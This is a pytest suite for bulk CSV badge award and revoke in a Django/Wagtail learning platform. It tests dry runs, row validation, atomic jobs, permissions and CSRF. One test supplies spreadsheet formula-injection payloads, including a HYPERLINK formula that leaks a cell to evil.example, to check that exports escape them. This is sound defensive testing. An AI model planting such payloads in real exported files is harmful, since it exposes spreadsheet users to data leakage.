"""Bulk award and bulk revoke by CSV in the badge admin: the dry run writes nothing and
numbers each bad line, a confirmed job is applied all or nothing and records each row's
outcome, and the outcome CSV cannot smuggle formulas into a spreadsheet."""

import csv
import html
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.urls import reverse
from wagtail.models import ModelLogEntry

from certificates.models import Badge, BulkBadgeJob, BulkBadgeRow
from courses.models import CoursePage
from lms.csv_export import safe_cell
from tests.support.otp import verified_client_for
from tests.support.staff import make_badge, make_editor

pytestmark = pytest.mark.django_db

State = Badge.State
Outcome = BulkBadgeRow.Outcome


def url(name, *args):
    return reverse(f"badges:{name}", args=args)


def upload(client, kind, text, *, name="rows.csv", encoding="utf-8"):
    data = text.encode(encoding) if isinstance(text, str) else text
    return client.post(
        url("bulk"), {"kind": kind, "file": SimpleUploadedFile(name, data, "text/csv")}
    )


def token_of(response) -> str:
    html = response.content.decode()
    marker = 'name="token" value="'
    assert marker in html, "the preview offers no confirmation"
    return html.split(marker, 1)[1].split('"', 1)[0]


def people(*names):
    return [
        get_user_model().objects.create_user(
            email=f"{name.lower()}@example.org", display_name=f"{name} Fellow"
        )
        for name in names
    ]


@pytest.fixture
def officer(password):
    user = make_editor(
        "officer@example.org",
        password,
        "certificates.view_badge",
        "certificates.award_badge",
        "certificates.revoke_badge",
    )
    return user


@pytest.fixture
def client_for_officer(officer):
    return verified_client_for(officer)


def nothing_written(badges_before: int = 0):
    assert Badge.objects.count() == badges_before
    assert not BulkBadgeJob.objects.exists()
    assert not ModelLogEntry.objects.filter(action__startswith="credence.badge.").exists()


# --- the dry run -------------------------------------------------------------------------


def test_the_dry_run_shows_each_row_and_writes_nothing(client_for_officer, design):
    people("Ada", "Grace")
    response = upload(
        client_for_officer,
        "award",
        f"email,course\nada@example.org,{design.course.slug}\nGRACE@example.org,{design.course.pk}\n",
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "Dry run: nothing has been changed" in html
    assert html.count("Will be awarded.") == 2
    assert "No completion recorded: awarded by hand." in html
    assert "Award 2 badges" in html
    token_of(response)
    nothing_written()


def test_bad_rows_are_numbered_and_the_file_cannot_be_confirmed(client_for_officer, design):
    ada, _grace, _held = people("Ada", "Grace", "Held")
    make_badge(design=design, recipient=_held, name="Held Fellow")
    no_design = design.course.get_parent().add_child(
        instance=CoursePage(title="No design", slug="no-design", summary="s", estimated_minutes=5)
    )
    rows = [
        "email,course",
        f"ada@example.org,{design.course.slug}",  # line 2: fine
        f"nobody@example.org,{design.course.slug}",  # 3: unknown fellow
        "grace@example.org,no-such-course",  # 4: unknown course
        f"grace@example.org,{no_design.slug}",  # 5: no design
        f"held@example.org,{design.course.slug}",  # 6: already holds it
        f"ADA@example.org,{design.course.pk}",  # 7: same as line 2
        f"grace\u202e@example.org,{design.course.slug}",  # 8: bidi control
        f"not-an-address,{design.course.slug}",  # 9
    ]
    response = upload(client_for_officer, "award", "\n".join(rows) + "\n")
    assert response.status_code == 200
    html = response.content.decode()
    for expected in (
        "Line 3: No account has this e-mail address.",
        "Line 4: No course has this slug or id.",
        "Line 5: This course has no badge design yet.",
        "Line 6: Already holds a badge for this course",
        "Line 7: The same award as line 2.",
        "Line 8: The email cell contains control or invisible characters (U+202E)",
        "Line 9: Not an e-mail address.",
    ):
        assert expected in html
    assert "7 of 8 rows cannot be applied" in html
    assert 'name="token"' not in html
    nothing_written(badges_before=1)
    assert not Badge.objects.filter(recipient=ada).exists()


def test_revoke_dry_run_names_already_revoked_and_superseded_badges(client_for_officer, design):
    revoked = make_badge(design=design, state=State.REVOKED)
    superseded = make_badge(design=design, state=State.SUPERSEDED)
    fine = make_badge(design=design)
    response = upload(
        client_for_officer,
        "revoke",
        "badge,reason\n"
        f"{revoked.public_id},Fraud\n"
        f"{superseded.public_id},Fraud\n"
        f"{fine.public_id},\n"
        "not-a-public-id,Fraud\n",
    )
    html = response.content.decode()
    assert "Line 2: Already revoked" in html
    assert "Line 3: Superseded" in html
    assert "Line 4: No reason" in html
    assert "Line 5: Not a badge public id" in html
    fine.refresh_from_db()
    assert fine.state == State.ISSUED


@pytest.mark.parametrize(
    "data, error",
    [
        ("email,course\nzoë@example.org,x\n".encode("latin-1"), "is not UTF-8 text"),
        (b"", "The submitted file is empty"),
        (b"email,course\n", "has a header but no rows"),
        (b"name,score\nAda,3\n", "Unknown columns: 'name', 'score'"),
        (b"email\nada@example.org\n", "Missing column: course"),
        (b"email,course\x00\nada@example.org,x\n", "contains NUL bytes"),
        (b'email,course\n"ada@example.org,x\n', "not valid CSV"),
    ],
    ids=["latin-1", "empty", "header-only", "wrong-columns", "missing-column", "nul", "bad-quote"],
)
def test_a_bad_file_is_a_form_error_and_writes_nothing(client_for_officer, design, data, error):
    response = upload(client_for_officer, "award", data)
    assert response.status_code == 400
    assert error in html.unescape(response.content.decode())
    nothing_written()


@override_settings(CREDENCE_BULK_CSV_MAX_ROWS=3, CREDENCE_BULK_CSV_MAX_BYTES=2_000)
def test_size_caps_on_rows_and_bytes(client_for_officer, design):
    rows = "email,course\n" + "".join(f"f{i}@example.org,x\n" for i in range(4))
    response = upload(client_for_officer, "award", rows)
    assert response.status_code == 400
    assert "more than 3 rows" in response.content.decode()

    big = "email,course\n" + "a@example.org,x\n" * 200  # over 2,000 bytes
    response = upload(client_for_officer, "award", big)
    assert response.status_code == 400
    assert "larger than 2,000 bytes" in response.content.decode()

    # Far over the cap: refused from its Content-Length, before the body is parsed.
    huge = "email,course\n" + "a@example.org,x\n" * 10_000
    response = upload(client_for_officer, "award", huge)
    assert response.status_code == 413
    assert "larger than 2,000 bytes" in response.content.decode()
    nothing_written()


# --- confirmed jobs ----------------------------------------------------------------------


def test_a_confirmed_award_job_awards_every_row_and_records_outcomes(
    client_for_officer, officer, design
):
    ada, grace = people("Ada", "Grace")
    preview = upload(
        client_for_officer,
        "award",
        f"email,course\nada@example.org,{design.course.slug}\ngrace@example.org,{design.course.slug}\n",
    )
    response = client_for_officer.post(url("bulk_confirm"), {"token": token_of(preview)})
    job = BulkBadgeJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == url("bulk_progress", job.job_id)
    assert job.state == BulkBadgeJob.State.DONE and job.created_by == officer

    for fellow in (ada, grace):
        badge = Badge.objects.get(recipient=fellow, course=design.course)
        assert badge.awarded_manually_by == officer
        assert ModelLogEntry.objects.for_instance(badge).filter(
            action="credence.badge.award", user=officer
        )
    rows = list(job.rows.order_by("line"))
    assert [(r.line, r.outcome) for r in rows] == [(2, Outcome.AWARDED), (3, Outcome.AWARDED)]
    assert all(r.badge is not None for r in rows)

    page = client_for_officer.get(url("bulk_progress", job.job_id))
    html = page.content.decode()
    assert page.status_code == 200
    assert "Done. 2 awarded." in html
    for row in rows:
        assert row.badge.public_id in html

    # The same preview cannot be confirmed twice.
    again = client_for_officer.post(url("bulk_confirm"), {"token": token_of(preview)})
    assert again.status_code == 302
    assert BulkBadgeJob.objects.count() == 1
    assert Badge.objects.count() == 2


def test_a_confirmed_revoke_job_revokes_every_row_with_its_reason(client_for_officer, design):
    by_id = make_badge(design=design)
    (fellow,) = people("Byemail")
    by_email = make_badge(design=design, recipient=fellow, name="Byemail Fellow")
    preview = upload(
        client_for_officer,
        "revoke",
        "badge,email,course,reason\n"
        f"{by_id.public_id},,,Plagiarised the final project\n"
        f",byemail@example.org,{design.course.slug},Shared answers\n",
    )
    assert "Revoke 2 badges for good" in preview.content.decode()
    client_for_officer.post(url("bulk_confirm"), {"token": token_of(preview)})
    job = BulkBadgeJob.objects.get()
    assert job.state == BulkBadgeJob.State.DONE
    by_id.refresh_from_db()
    by_email.refresh_from_db()
    assert (by_id.state, by_id.revocation_reason) == (
        State.REVOKED,
        "Plagiarised the final project",
    )
    assert (by_email.state, by_email.revocation_reason) == (State.REVOKED, "Shared answers")
    assert list(job.rows.values_list("outcome", flat=True)) == [Outcome.REVOKED] * 2


def test_a_row_failing_at_run_time_changes_nothing(client_for_officer, design, staff_user):
    badges = [make_badge(design=design) for _ in range(3)]
    preview = upload(
        client_for_officer,
        "revoke",
        "badge,reason\n" + "".join(f"{b.public_id},Cheated\n" for b in badges),
    )
    token = token_of(preview)
    # Between the dry run and the confirmation, someone revokes the second badge.
    from certificates.issuing import issuance

    issuance.revoke_badge(badges[1], reason="By hand", by=staff_user)

    client_for_officer.post(url("bulk_confirm"), {"token": token})
    job = BulkBadgeJob.objects.get()
    assert job.state == BulkBadgeJob.State.FAILED
    assert job.message.startswith("Line 3 failed: Already revoked")
    assert job.message.endswith("Nothing was changed.")
    states = [Badge.objects.get(pk=b.pk).state for b in badges]
    assert states == [State.ISSUED, State.REVOKED, State.ISSUED]
    assert Badge.objects.get(pk=badges[0].pk).revocation_reason == ""
    assert not ModelLogEntry.objects.filter(action="credence.badge.revoke", data__reason="Cheated")
    outcomes = list(job.rows.order_by("line").values_list("line", "outcome"))
    assert outcomes == [(2, Outcome.ROLLED_BACK), (3, Outcome.FAILED), (4, Outcome.NOT_RUN)]

    html = client_for_officer.get(url("bulk_progress", job.job_id)).content.decode()
    assert "Line 3 failed: Already revoked" in html
    assert "Undone: another line failed" in html


def test_an_award_job_that_fails_at_run_time_creates_no_badge(
    client_for_officer, design, staff_user
):
    ada, grace = people("Ada", "Grace")
    preview = upload(
        client_for_officer,
        "award",
        f"email,course\nada@example.org,{design.course.slug}\ngrace@example.org,{design.course.slug}\n",
    )
    make_badge(design=design, recipient=grace, name="Grace Fellow")  # awarded meanwhile
    client_for_officer.post(url("bulk_confirm"), {"token": token_of(preview)})
    job = BulkBadgeJob.objects.get()
    assert job.state == BulkBadgeJob.State.FAILED
    assert not Badge.objects.filter(recipient=ada).exists()
    assert Badge.objects.count() == 1
    assert not job.rows.filter(badge__isnull=False).exists()


def test_the_outcome_csv_is_safe_against_formula_injection(client_for_officer, design):
    badges = [make_badge(design=design) for _ in range(4)]
    reasons = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-3", "@SUM(A1:A9)"]
    preview = upload(
        client_for_officer,
        "revoke",
        "badge,reason\n"
        + "".join(
            f'{b.public_id},"{r.replace(chr(34), chr(34) * 2)}"\n'
            for b, r in zip(badges, reasons, strict=True)
        ),
    )
    client_for_officer.post(url("bulk_confirm"), {"token": token_of(preview)})
    job = BulkBadgeJob.objects.get()
    assert job.state == BulkBadgeJob.State.DONE
    # The stored reason is what staff typed; only the spreadsheet export is escaped.
    assert Badge.objects.get(pk=badges[0].pk).revocation_reason == reasons[0]

    response = client_for_officer.get(url("bulk_outcomes", job.job_id))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode()
    table = list(csv.reader(io.StringIO(text)))
    assert table[0] == ["line", "email", "course", "badge", "reason", "outcome", "message"]
    assert [row[4] for row in table[1:]] == ["'" + r for r in reasons]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)


@pytest.mark.parametrize(
    "value, shown",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain", "plain"),
        (7, 7),  # numbers stay numbers
        (None, ""),
    ],
)
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown


# --- who may -----------------------------------------------------------------------------


def test_an_officer_who_may_only_award_cannot_revoke_in_bulk(password, design):
    awarder = verified_client_for(
        make_editor(
            "awarder@example.org", password, "certificates.view_badge", "certificates.award_badge"
        )
    )
    badge = make_badge(design=design)
    page = awarder.get(url("bulk")).content.decode()
    assert 'value="award"' in page and 'value="revoke"' not in page
    response = upload(awarder, "revoke", f"badge,reason\n{badge.public_id},No\n")
    assert response.status_code == 400
    badge.refresh_from_db()
    assert badge.state == State.ISSUED
    assert not BulkBadgeJob.objects.exists()


def test_staff_without_award_or_revoke_cannot_use_bulk_actions(password, design, officer):
    viewer = verified_client_for(
        make_editor("viewer@example.org", password, "certificates.view_badge")
    )
    assert viewer.get(url("bulk")).status_code == 403
    assert url("bulk") not in viewer.get(url("index")).content.decode()
    assert upload(viewer, "award", "email,course\n").status_code == 403
    assert viewer.post(url("bulk_confirm"), {"token": "a" * 32}).status_code == 403
    job = BulkBadgeJob.objects.create(kind="revoke", created_by=officer)
    assert viewer.get(url("bulk_progress", job.job_id)).status_code == 403
    assert viewer.get(url("bulk_outcomes", job.job_id)).status_code == 403


def test_the_upload_still_needs_a_csrf_token(officer, design):
    from django_otp import DEVICE_ID_SESSION_KEY
    from django_otp.plugins.otp_totp.models import TOTPDevice

    client = Client(enforce_csrf_checks=True)
    client.force_login(officer)
    session = client.session
    session[DEVICE_ID_SESSION_KEY] = TOTPDevice.objects.create(
        user=officer, name="phone", confirmed=True
    ).persistent_id
    session.save()
    (_ada,) = people("Ada")
    response = upload(client, "award", f"email,course\nada@example.org,{design.course.slug}\n")
    assert response.status_code == 403
    nothing_written()
